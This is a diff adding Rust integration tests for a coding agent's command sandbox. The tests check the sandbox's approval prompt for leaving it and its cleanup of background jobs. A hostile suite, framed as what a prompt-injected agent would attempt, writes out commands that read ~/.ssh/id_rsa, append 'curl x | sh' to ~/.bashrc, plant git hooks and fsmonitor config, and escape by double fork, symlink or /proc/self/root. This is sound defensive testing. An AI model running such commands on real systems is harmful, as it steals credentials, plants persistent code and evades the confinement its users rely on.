@@ -1,0 +1,527 @@
+//! The command sandbox through the real binary and the real kernel: a hostile suite run with
+//! `agent-lsp tool shell` in each policy and each mechanism (every harm refused, a listener on
+//! 127.0.0.1 reached by nothing), the same suite under `off` showing what each rule prevents,
+//! the ordinary work (git, python, a cargo build and test) still passing inside, and the
+//! `standard` preset running held commands without asking while a command that asks to leave
+//! the sandbox is asked for, the answer and the policy recorded in the session log, which
+//! replays byte-identically.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+/// A workspace (a git repository with a hook folder), a folder outside it, a home with a key
+/// and a `.bashrc`, the agent's state, and a listener on 127.0.0.1 that counts connections.
+pub(crate) struct World {
+    _workspace: tempfile::TempDir,
+    pub(crate) root: PathBuf,
+    outside: tempfile::TempDir,
+    home: tempfile::TempDir,
+    state: tempfile::TempDir,
+    config: PathBuf,
+    listener: TcpListener,
+    connections: usize,
+}
+
+impl World {
+    pub(crate) fn new() -> World {
+        let workspace = tempfile::tempdir().unwrap();
+        let root = workspace.path().canonicalize().unwrap();
+        git(&root, &["init", "-q"]);
+        std::fs::write(root.join("notes.txt"), "first\n").unwrap();
+        git(&root, &["add", "notes.txt"]);
+        git(
+            &root,
+            &[
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@t",
+                "commit",
+                "-qm",
+                "first",
+            ],
+        );
+        // Not under /tmp, which a sandbox replaces by a private one: folders it still sees.
+        let outside = tempfile::tempdir_in("/var/tmp").unwrap();
+        let home = tempfile::tempdir_in("/var/tmp").unwrap();
+        std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
+        std::fs::write(home.path().join(".ssh/id_rsa"), "SECRET KEY\n").unwrap();
+        std::fs::write(home.path().join(".bashrc"), "# bashrc\n").unwrap();
+        let state = tempfile::tempdir().unwrap();
+        let config = state.path().join("config.toml");
+        std::fs::write(&config, "").unwrap();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        World {
+            _workspace: workspace,
+            root,
+            outside,
+            home,
+            state,
+            config,
+            listener,
+            connections: 0,
+        }
+    }
+
+    /// A preset `name`: `standard` with `sandbox` as its `[sandbox]` table.
+    pub(crate) fn preset(&self, name: &str, sandbox: &str) {
+        agent_tests::standard_with_sandbox(&self.root, name, sandbox);
+    }
+
+    pub(crate) fn command(&self, args: &[&str]) -> std::process::Command {
+        let mut command =
+            agent_tests::agent_lsp_command(self.state.path(), &self.config, &self.root, args);
+        command
+            .env("HOME", self.home.path())
+            .env_remove("CARGO_TARGET_DIR");
+        command
+    }
+
+    /// One `shell` call through `agent-lsp tool` under `preset`: the JSON result.
+    pub(crate) fn shell(&self, preset: &str, args: Value, yes: bool) -> Value {
+        let args = args.to_string();
+        let mut argv = vec!["tool", "--json", "--preset", preset];
+        if yes {
+            argv.push("--yes");
+        }
+        argv.extend(["shell", "--args", &args]);
+        let output = self.command(&argv).output().unwrap();
+        let text = String::from_utf8_lossy(&output.stdout).into_owned();
+        serde_json::from_str(&text)
+            .unwrap_or_else(|_| panic!("{text}\n{}", String::from_utf8_lossy(&output.stderr)))
+    }
+
+    /// Connections the listener took since the last look.
+    pub(crate) fn new_connections(&mut self) -> usize {
+        let mut new = 0;
+        while let Ok((mut stream, _)) = self.listener.accept() {
+            let mut sink = Vec::new();
+            stream.set_nonblocking(false).unwrap();
+            stream
+                .set_read_timeout(Some(Duration::from_millis(200)))
+                .unwrap();
+            let _ = stream.read_to_end(&mut sink);
+            new += 1;
+        }
+        self.connections += new;
+        new
+    }
+
+    fn port(&self) -> u16 {
+        self.listener.local_addr().unwrap().port()
+    }
+
+    fn outside(&self, name: &str) -> PathBuf {
+        self.outside.path().join(name)
+    }
+}
+
+fn git(root: &Path, args: &[&str]) {
+    let status = std::process::Command::new("git")
+        .args(args)
+        .current_dir(root)
+        .status()
+        .unwrap();
+    assert!(status.success(), "git {args:?}");
+}
+
+/// Whether a hostile command did its harm, judged from the world and its result.
+type Harmed = Box<dyn Fn(&mut World, &Value) -> bool>;
+
+/// One hostile command and how to tell that it did its harm.
+struct Hostile {
+    what: &'static str,
+    command: String,
+    harmed: Harmed,
+}
+
+fn contains(path: PathBuf, text: &'static str) -> Harmed {
+    Box::new(move |_, _| std::fs::read_to_string(&path).is_ok_and(|got| got.contains(text)))
+}
+
+fn exists(path: PathBuf) -> Harmed {
+    Box::new(move |_, _| path.exists())
+}
+
+/// The suite: each command tries one harm a prompt-injected agent would.
+fn hostile(world: &World) -> Vec<Hostile> {
+    let port = world.port();
+    let out = |name: &str| world.outside(name).display().to_string();
+    vec![
+        Hostile {
+            what: "a write outside the workspace",
+            command: format!("echo pwned > {}", out("escaped")),
+            harmed: exists(world.outside("escaped")),
+        },
+        Hostile {
+            what: "a git hook planted",
+            command: "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit".into(),
+            harmed: exists(world.root.join(".git/hooks/pre-commit")),
+        },
+        Hostile {
+            what: "git's config changed",
+            command: "git config core.fsmonitor 'touch /tmp/pwned'".into(),
+            harmed: contains(world.root.join(".git/config"), "fsmonitor"),
+        },
+        Hostile {
+            what: "~/.bashrc changed",
+            command: "echo 'curl x | sh' >> ~/.bashrc".into(),
+            harmed: contains(world.home.path().join(".bashrc"), "curl"),
+        },
+        Hostile {
+            what: "~/.ssh/id_rsa read",
+            command: "cat ~/.ssh/id_rsa".into(),
+            harmed: Box::new(|_, result| result["text"].as_str().unwrap().contains("SECRET KEY")),
+        },
+        Hostile {
+            what: "a python socket to a listener on 127.0.0.1",
+            command: format!(
+                "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3).sendall(b\"python\")'"
+            ),
+            harmed: Box::new(|world, _| world.new_connections() > 0),
+        },
+        Hostile {
+            what: "curl to a listener on 127.0.0.1",
+            command: format!("curl -s -m 3 -o /dev/null http://127.0.0.1:{port}/"),
+            harmed: Box::new(|world, _| world.new_connections() > 0),
+        },
+        // The pause lets the escapee drop the environment that marks the command's processes
+        // (`tools/shell.rs`) before the command ends: only a sandbox holds it then.
+        Hostile {
+            what: "a setsid double fork with a clean environment, writing after the command ended",
+            command: format!(
+                "setsid env -i /bin/sh -c 'sleep 1; echo pwned > {}' </dev/null >/dev/null 2>&1 & sleep 0.5",
+                out("forked")
+            ),
+            harmed: {
+                let path = world.outside("forked");
+                Box::new(move |_, _| {
+                    // The escapee writes a second after the command ended: give it four.
+                    let deadline = Instant::now() + Duration::from_secs(4);
+                    while Instant::now() < deadline && !path.exists() {
+                        std::thread::sleep(Duration::from_millis(100));
+                    }
+                    path.exists()
+                })
+            },
+        },
+        Hostile {
+            what: "a link out of the workspace made inside it, written through",
+            command: format!("ln -s {} out && echo pwned > out/linked", world.outside.path().display()),
+            harmed: exists(world.outside("linked")),
+        },
+        Hostile {
+            what: "a write through /proc/self/root",
+            command: format!("echo pwned > /proc/self/root{}", out("proc")),
+            harmed: exists(world.outside("proc")),
+        },
+    ]
+}
+
+/// Run the suite under `preset`, each call approved (`--yes`) so that only the sandbox can
+/// stop it; which harms happened (by `what`).
+fn run_suite(world: &mut World, preset: &str) -> Vec<&'static str> {
+    let mut harmed = Vec::new();
+    for hostile in hostile(world) {
+        let result = world.shell(preset, json!({ "command": hostile.command }), true);
+        if (hostile.harmed)(world, &result) {
+            harmed.push(hostile.what);
+        }
+    }
+    harmed
+}
+
+/// `sandbox` refuses every harm of the suite, and `off` lets every one through: each rule
+/// prevents something real.
+fn suite_in(sandbox: &str, mechanism: &str) {
+    let mut boxed = World::new();
+    boxed.preset("boxed", sandbox);
+    let probe = boxed.shell("boxed", json!({"command": "true"}), false);
+    assert_eq!(probe["is_error"], false, "{probe}");
+    assert_eq!(probe["meta"]["sandbox"]["mechanism"], mechanism, "{probe}");
+    let harmed = run_suite(&mut boxed, "boxed");
+    assert_eq!(harmed, Vec::<&str>::new(), "harms done inside `{sandbox}`");
+    assert_eq!(boxed.connections, 0);
+
+    let mut open = World::new();
+    open.preset("open", "mode = \"off\"");
+    let harmed = run_suite(&mut open, "open");
+    let all: Vec<&str> = hostile(&open).iter().map(|hostile| hostile.what).collect();
+    assert_eq!(harmed, all, "under `off` every harm of the suite is real");
+    assert_eq!(open.connections, 2);
+}
+
+#[test]
+fn bubblewrap_workspace_write_refuses_every_hostile_command() {
+    suite_in("mode = \"workspace-write\"", "bubblewrap");
+}
+
+#[test]
+fn bubblewrap_read_only_refuses_every_hostile_command_and_workspace_writes() {
+    suite_in("mode = \"read-only\"", "bubblewrap");
+    let world = World::new();
+    world.preset("ro", "mode = \"read-only\"");
+    let write = world.shell("ro", json!({"command": "echo x > made.txt"}), false);
+    assert_eq!(write["is_error"], true, "{write}");
+    assert!(!world.root.join("made.txt").exists());
+    // The private /tmp is writable, and the failure says which rule stopped the write.
+    let temp = world.shell(
+        "ro",
+        json!({"command": "echo x > /tmp/t && cat /tmp/t"}),
+        false,
+    );
+    assert_eq!(temp["is_error"], false, "{temp}");
+    let text = write["text"].as_str().unwrap();
+    assert!(
+        text.contains(
+            "[sandbox: this command ran in the sandbox (read-only, no network, bubblewrap)"
+        ),
+        "{text}"
+    );
+    assert!(text.contains("leave_sandbox"), "{text}");
+}
+
+/// What a user does all day still works inside `workspace-write`: git status and diff, a
+/// python script writing a file, a cargo build writing `target/` and a test run.
+fn ordinary_work_in(sandbox: &str) {
+    let world = World::new();
+    world.preset("boxed", sandbox);
+    std::fs::write(
+        world.root.join("Cargo.toml"),
+        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(world.root.join("src")).unwrap();
+    std::fs::write(
+        world.root.join("src/lib.rs"),
+        "pub fn two() -> u32 { 2 }\n#[test]\nfn it_is_two() { assert_eq!(two(), 2); }\n",
+    )
+    .unwrap();
+    let run = |command: &str| {
+        let result = world.shell(
+            "boxed",
+            json!({"command": command, "timeout_secs": 300}),
+            false,
+        );
+        assert_eq!(result["is_error"], false, "`{command}`: {result}");
+        result["text"].as_str().unwrap().to_owned()
+    };
+    run("echo second >> notes.txt");
+    assert!(run("git status --porcelain").contains(" M notes.txt"));
+    assert!(run("git diff").contains("+second"));
+    run("python3 -c \"open('src/made.txt', 'w').write('made')\"");
+    assert_eq!(
+        std::fs::read_to_string(world.root.join("src/made.txt")).unwrap(),
+        "made"
+    );
+    run("cargo build --offline -q");
+    assert!(world.root.join("target/debug").is_dir());
+    assert!(run("cargo test --offline -q 2>&1").contains("1 passed"));
+}
+
+#[test]
+fn ordinary_work_passes_inside_bubblewrap() {
+    ordinary_work_in("mode = \"workspace-write\"");
+}
+
+/// `standard` holds commands in its sandbox and runs them without asking, even headless
+/// without `--yes`; a command asking to leave it is asked for (declined headless, allowed with
+/// `--yes`), and the result records the question and the answer.
+#[test]
+fn standard_runs_held_commands_without_asking_and_asks_to_leave() {
+    let mut world = World::new();
+    let held = world.shell(
+        "standard",
+        json!({"command": "echo held > held.txt"}),
+        false,
+    );
+    assert_eq!(held["is_error"], false, "{held}");
+    assert!(held["meta"].get("asked").is_none(), "{held}");
+    assert_eq!(
+        held["meta"]["sandbox"],
+        json!({"mode": "workspace-write", "network": false, "mechanism": "bubblewrap"})
+    );
+    assert!(world.root.join("held.txt").exists());
+
+    let connect = format!(
+        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {}), 3).sendall(b\"x\")'",
+        world.port()
+    );
+    let inside = world.shell("standard", json!({"command": connect}), false);
+    assert_eq!(inside["is_error"], true, "{inside}");
+    let text = inside["text"].as_str().unwrap();
+    assert!(text.contains("the network is off"), "{text}");
+    assert!(text.contains("\"leave_sandbox\": \"network\""), "{text}");
+    assert_eq!(world.new_connections(), 0);
+
+    let leave = json!({"command": connect, "leave_sandbox": "network"});
+    let declined = world.shell("standard", leave.clone(), false);
+    assert_eq!(declined["is_error"], true, "{declined}");
+    assert_eq!(
+        declined["meta"]["asked"]["answer"], "declined",
+        "{declined}"
+    );
+    assert!(
+        declined["meta"]["asked"]["why"]
+            .as_str()
+            .unwrap()
+            .contains("the command asks to run with the network on"),
+        "{declined}"
+    );
+    assert_eq!(world.new_connections(), 0);
+
+    let allowed = world.shell("standard", leave, true);
+    assert_eq!(allowed["is_error"], false, "{allowed}");
+    assert_eq!(allowed["meta"]["asked"]["answer"], "allowed", "{allowed}");
+    assert_eq!(allowed["meta"]["sandbox"]["network"], true, "{allowed}");
+    assert_eq!(world.new_connections(), 1);
+
+    // Leaving it all: the write outside the workspace happens, once allowed.
+    let escape = json!({
+        "command": format!("echo x > {}", world.outside("left").display()),
+        "leave_sandbox": "all",
+    });
+    assert_eq!(
+        world.shell("standard", escape.clone(), false)["is_error"],
+        true
+    );
+    assert!(!world.outside("left").exists());
+    let left = world.shell("standard", escape, true);
+    assert_eq!(left["is_error"], false, "{left}");
+    assert!(world.outside("left").exists());
+}
+
+/// A session under `standard`: each command's `tool/call` record names the policy and the
+/// mechanism (and what the call asked beyond them), the result records the question and the
+/// answer, and every request still replays byte-identically.
+#[test]
+fn the_record_of_each_command_names_its_sandbox_and_the_session_replays() {
+    use agent_lsp::session::event::EventBody;
+    use agent_tests::model_endpoint::{EndpointConfig, ModelEndpoint, ModelTurn, Reply};
+
+    let world = World::new();
+    let endpoint = ModelEndpoint::start(EndpointConfig::default()).unwrap();
+    endpoint.push_all::<Reply>([
+        ModelTurn::thinking_call("shell", json!({"command": "echo held > held.txt"})).into(),
+        ModelTurn::thinking_call(
+            "shell",
+            json!({"command": "echo out", "leave_sandbox": "network"}),
+        )
+        .into(),
+        ModelTurn::new().reasoning("Done.").content("Done.").into(),
+    ]);
+    // No --yes: the held command runs, the one leaving the sandbox is declined.
+    let output = world
+        .command(&["run", "--base-url", &endpoint.base_url(), "Do it"])
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    endpoint.assert_no_violations();
+    assert!(world.root.join("held.txt").exists());
+
+    let store = agent_lsp::session::store::Store::for_workspace_in(world.state.path(), &world.root)
+        .unwrap();
+    let session = store.resolve("last").unwrap();
+    let history = store.load(&session).unwrap();
+    let calls: Vec<Value> = history
+        .events()
+        .iter()
+        .filter_map(|event| match &event.body {
+            EventBody::ToolCall(call) => Some(call.sandbox.clone().unwrap_or_default()),
+            _ => None,
+        })
+        .collect();
+    let held = json!({"mode": "workspace-write", "network": false, "mechanism": "bubblewrap"});
+    let mut leaving = held.clone();
+    leaving["leave"] = json!("network");
+    assert_eq!(calls, [held, leaving]);
+    let asked: Vec<Value> = history
+        .events()
+        .iter()
+        .filter_map(|event| match &event.body {
+            EventBody::ToolResult(result) => Some(result.meta["asked"].clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(asked[0], Value::Null, "the held command was not asked for");
+    assert_eq!(asked[1]["answer"], "declined");
+
+    let requests = endpoint.chat_requests();
+    assert_eq!(requests.len(), 3);
+    for (index, request) in requests.iter().enumerate() {
+        let n = (index + 1).to_string();
+        let replayed = world
+            .command(&["session", "replay", &session, "--request", &n])
+            .output()
+            .unwrap();
+        assert!(replayed.status.success());
+        assert_eq!(
+            String::from_utf8_lossy(&replayed.stdout),
+            String::from_utf8_lossy(&request.raw),
+            "request {n} does not replay byte-identically"
+        );
+    }
+}
+
+/// A background job runs in the sandbox too (its write outside the workspace refused), and
+/// nothing of it outlives `agent-lsp run`.
+#[test]
+fn a_sandboxed_background_job_is_held_and_ends_with_its_agent() {
+    use agent_tests::model_endpoint::{EndpointConfig, ModelEndpoint, ModelTurn, Reply};
+
+    fn sleepers() -> usize {
+        std::fs::read_dir("/proc")
+            .unwrap()
+            .filter_map(Result::ok)
+            .filter(|entry| {
+                std::fs::read(entry.path().join("cmdline"))
+                    .is_ok_and(|argv| argv == b"sleep\x004321\x00")
+            })
+            .count()
+    }
+    let world = World::new();
+    let endpoint = ModelEndpoint::start(EndpointConfig::default()).unwrap();
+    let out = world.outside("job");
+    let command = format!(
+        "{{ echo x > {}; }} 2> refused.txt; sleep 4321",
+        out.display()
+    );
+    endpoint.push_all::<Reply>([
+        ModelTurn::thinking_call("shell", json!({"command": command, "background": true})).into(),
+        Reply::from_fn(|_| {
+            let deadline = Instant::now() + Duration::from_secs(20);
+            while sleepers() != 1 {
+                assert!(Instant::now() < deadline, "the job's sleep never ran");
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            ModelTurn::new()
+                .reasoning("Done.")
+                .content("It runs.")
+                .into()
+        }),
+    ]);
+    let output = world
+        .command(&["run", "--base-url", &endpoint.base_url(), "Start it"])
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    endpoint.assert_no_violations();
+    assert_eq!(endpoint.remaining_replies(), 0);
+    assert!(!out.exists());
+    let refused = std::fs::read_to_string(world.root.join("refused.txt")).unwrap();
+    assert!(refused.contains("Read-only file system"), "{refused}");
+    assert_eq!(sleepers(), 0, "the job's sleep outlived `agent-lsp run`");
+}
